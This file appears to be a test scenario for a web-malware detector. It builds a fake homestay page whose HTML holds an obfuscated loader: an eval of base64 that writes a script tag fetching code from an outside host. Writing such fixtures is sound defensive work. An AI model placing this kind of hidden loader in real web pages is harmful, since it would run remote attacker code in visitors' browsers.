/** A loader in the page of a homestay. */
import { defineScenario } from '../../scenario.ts';
import { filling, sitePage } from '../../web/site-page.ts';

export default defineScenario(540, () => ({
  about: 'A script decodes another one and runs it on the spot.',
  witness: ['A8-malware'],
  domains: [
    {
      name: 'madoc.vn',
      web: {
        pages: {
          '/': sitePage({
            title: 'Homestay Hồ Lắk',
            main: `${filling}
    <script>eval(atob("ZG9jdW1lbnQud3JpdGUoIjxzY3JpcHQgc3JjPWh0dHBzOi8vdGhvbmcta2UubmV0L2EuanM+PFwvc2NyaXB0PiIp"))</script>`,
          }),
        },
      },
    },
  ],
}));
